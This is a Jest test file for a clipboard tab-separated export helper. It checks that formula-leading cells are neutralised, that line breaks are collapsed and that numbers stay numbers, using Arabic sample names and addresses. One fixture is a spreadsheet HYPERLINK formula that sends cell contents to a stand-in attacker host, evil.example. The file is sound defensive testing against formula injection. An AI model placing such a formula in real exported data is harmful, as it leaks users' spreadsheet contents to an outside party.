import { parse as parseDelimited } from 'papaparse';
import { sheetTextRows } from '../imports/sheet-file';
import { tsvCell, tsvText } from './tsv-text';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';

describe('a cell of tab-separated text, as the copy buttons put it on the clipboard', () => {
  it.each([
    ['a name holding a line feed before a formula', `\n${HYPERLINK}`, `'${HYPERLINK}`],
    ['a name holding a tab before a formula', '\t=2+2', "'=2+2"],
    ['an address holding a carriage return before a formula', '\r=1+1', "'=1+1"],
  ])('keeps %s on one line, as text', (_, value, pasted) => {
    expect(tsvCell(value)).toBe(pasted);
  });

  it('sees the formula behind spaces that stay once the breaks are gone', () => {
    expect(tsvCell(' \t=2+2')).toBe("'  =2+2");
    expect(tsvCell('  \r\n@SUM(A1:A9)')).toBe("'   @SUM(A1:A9)");
  });

  it('drops the breaks at the ends of a value and turns each run of them inside it into one space', () => {
    expect(tsvCell('\r\nمحمد\t\tعلي\n')).toBe('محمد علي');
    expect(tsvCell('حي البركة\r\nقرب الجامع')).toBe('حي البركة قرب الجامع');
    expect(tsvCell('أحمد\n=HYPERLINK("x")')).toBe('أحمد =HYPERLINK("x")');
    expect(tsvCell('\t\r\n')).toBe('');
  });

  it('keeps numbers numbers, a negative amount too, as the downloads do', () => {
    expect(tsvCell(-5)).toBe('-5');
    expect(tsvCell('-5')).toBe('-5');
    expect(tsvCell('-12.5\n')).toBe('-12.5');
    expect(tsvCell(895_000)).toBe('895000');
    expect(tsvCell(null)).toBe('');
  });

  it('applies the spreadsheet-cell rule of the downloads to what is left', () => {
    expect(tsvCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(tsvCell('+961 3 123456')).toBe("'+961 3 123456");
    expect(tsvCell('-عميل')).toBe("'-عميل");
    expect(tsvCell('أحمد, "أبو علي"')).toBe('أحمد, "أبو علي"');
  });

  it('quotes, the way Excel does, a value beginning with a quote, so the spreadsheet reads no further than the cell', () => {
    expect(tsvCell('"=1+1"')).toBe('"""=1+1"""');
    expect(tsvCell('"أبو علي')).toBe('"""أبو علي"');
  });
});

describe('tab-separated text, as the copy buttons put it on the clipboard', () => {
  const risky = [
    ['الاسم', 'العنوان', 'الرصيد'],
    [`\n${HYPERLINK}`, '\r=1+1', -5],
    ['\t=2+2', '"', '-12.5'],
    ['"', 'حي البركة', 40],
  ];

  it('writes one row per line and one cell per tab, whatever the values hold', () => {
    const text = tsvText(risky);

    expect(text.split('\n')).toHaveLength(4);
    expect(text.split('\n').map((line) => line.split('\t').length)).toEqual([3, 3, 3, 3]);
    expect(text).not.toMatch(/\r/);
  });

  it('is read back by a CSV parser with no cell beginning a formula, numbers still numbers', () => {
    const { data, errors } = parseDelimited<(string | number)[]>(tsvText(risky), {
      delimiter: '\t',
      dynamicTyping: true,
    });

    expect(errors).toEqual([]);
    expect(data).toEqual([
      ['الاسم', 'العنوان', 'الرصيد'],
      [`'${HYPERLINK}`, "'=1+1", -5],
      ["'=2+2", '"', -12.5],
      ['"', 'حي البركة', 40],
    ]);
    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });

  it('is read back cell for cell by the one sheet reader, when the operator pastes it into an import', () => {
    expect(sheetTextRows(tsvText(risky), 'tsv')).toEqual([
      ['الاسم', 'العنوان', 'الرصيد'],
      [`'${HYPERLINK}`, "'=1+1", '-5'],
      ["'=2+2", '"', '-12.5'],
      ['"', 'حي البركة', '40'],
    ]);
  });
});
